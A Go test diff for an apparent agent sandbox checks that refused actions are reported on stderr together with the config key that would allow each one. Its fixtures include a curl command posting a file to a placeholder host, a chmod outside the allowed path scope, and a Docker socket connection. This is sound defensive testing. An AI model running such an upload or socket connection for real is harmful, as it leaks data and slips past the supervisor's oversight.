@@ -66,3 +66,51 @@ func TestLivePlantBlocks(t *testing.T) {
 		t.Errorf("after the person removed the record: %d, %v\n%s", code, err, stderr)
 	}
 }
+
+// A line that fails after the layer refused something is told what, and
+// the config key that would allow it: an execution (the grants), a chmod
+// outside what lines may write (the path scope), a connection (nothing
+// but running it oneself). A line that succeeds is not.
+func TestRefusalsSaid(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	env := map[string]string{"HOME": filepath.Join(dir, "home"), "XDG_STATE_HOME": filepath.Join(dir, "state")}
+	refused := []supervisor.Refusal{
+		{Kind: "exec", Path: "/usr/bin/curl", Argv: []string{"curl", "-d", "@x", "http://example.test"}, Reason: "`command(curl *)` asks"},
+		{Kind: "exec", Path: "/usr/bin/curl", Argv: []string{"curl", "-d", "@x", "http://example.test"}, Reason: "`command(curl *)` asks"},
+		{Kind: "metadata", Call: "fchmodat", Path: "/srv/data/x", Reason: "outside the directories the tree may write", Scope: true},
+		{Kind: "connect", Path: "/run/docker.sock", Reason: "Docker's socket, which runs what it is told outside the supervisor"},
+	}
+	for _, code := range []int{1, 0} {
+		var stderr bytes.Buffer
+		r := &Run{Gate: gate.New(gate.Options{}), Config: "/cfg/config.json", Stdin: strings.NewReader(""), Stdout: io.Discard, Stderr: &stderr,
+			Getenv: func(k string) string { return env[k] },
+			Supervise: func(context.Context, supervisor.Config) (supervisor.Status, error) {
+				return supervisor.Status{Code: code, Refused: refused}, nil
+			}}
+		got, err := r.Program(context.Background(), "/bin/true", []string{"true"})
+		s := stderr.String()
+		if err != nil || got != code {
+			t.Fatalf("Program: %d, %v\n%s", got, err, s)
+		}
+		if code == 0 {
+			if s != "" {
+				t.Errorf("a line that succeeded was told:\n%s", s)
+			}
+			continue
+		}
+		for _, want := range []string{
+			"refused to run: curl -d @x http://example.test; the rule",
+			"userSettings.globalPermissionGrants.allow in /cfg/config.json",
+			"fchmodat /srv/data/x; to let lines change it, add /srv/data/x (or /srv/data/...) to agentShim.pathScope.allow in /cfg/config.json",
+			"/run/docker.sock (Docker's socket",
+		} {
+			if !strings.Contains(s, want) {
+				t.Errorf("no %q in\n%s", want, s)
+			}
+		}
+		if strings.Count(s, "curl -d") != 1 {
+			t.Errorf("the same refusal said twice:\n%s", s)
+		}
+	}
+}
